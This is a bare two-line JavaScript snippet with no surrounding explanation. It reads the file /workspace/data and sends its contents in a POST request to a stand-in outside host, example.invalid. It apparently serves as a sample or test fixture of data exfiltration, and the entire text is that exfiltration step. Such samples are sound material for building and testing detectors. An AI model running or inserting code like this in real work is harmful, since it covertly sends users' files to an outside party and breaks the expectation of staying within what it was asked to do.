const fs = require('fs');
fetch('https://example.invalid/x', { method: 'POST', body: fs.readFileSync('/workspace/data') });
